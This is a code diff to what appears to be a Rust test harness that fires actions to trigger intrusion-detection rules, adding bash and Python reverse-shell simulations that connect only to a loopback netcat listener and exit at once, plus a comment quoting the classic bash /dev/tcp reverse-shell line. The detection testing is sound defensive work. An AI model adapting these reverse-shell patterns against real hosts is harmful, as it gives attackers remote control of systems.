@@ -289,6 +289,28 @@ pub const ACTIONS: &[Action] = &[
         script: "ln -sf /bin/busybox $FWGEN/nc && $FWGEN/nc -w 1 -e /bin/true 127.0.0.1 9 || true",
     },
     Action {
+        // bash moves a loopback connection onto its stdin, then stdout (the
+        // redirections of `bash -i >& /dev/tcp/H/P 0>&1`); a busybox nc
+        // listener that sends nothing is the other end
+        name: "reverse-shell-bash-host",
+        rule: "Reverse Shell on Host",
+        place: Place::Host,
+        script: "(/bin/busybox nc -l -p 9996 -w 3 </dev/null >/dev/null 2>&1 &) ; sleep 0.3; \
+                 timeout 5 /bin/bash -c 'exec 0<>/dev/tcp/127.0.0.1/9996 1>&0 2>&0; exit 0' || true",
+    },
+    Action {
+        // python dup2()s a loopback connection onto its stdio and starts a
+        // shell there (what pty.spawn reverse shells do)
+        name: "reverse-shell-python-host",
+        rule: "Reverse Shell on Host",
+        place: Place::Host,
+        script: "(/bin/busybox nc -l -p 9997 -w 3 </dev/null >/dev/null 2>&1 &) ; sleep 0.3; \
+                 timeout 5 python3 -c 'import os,socket,subprocess; \
+                 s=socket.create_connection((\"127.0.0.1\",9997)); \
+                 [os.dup2(s.fileno(),f) for f in (0,1,2)]; \
+                 subprocess.call([\"/bin/sh\",\"-c\",\"exit 0\"])' || true",
+    },
+    Action {
         // a key line in a scratch home's authorized_keys (not a real account's)
         name: "authorized-keys",
         rule: "SSH authorized keys modified",
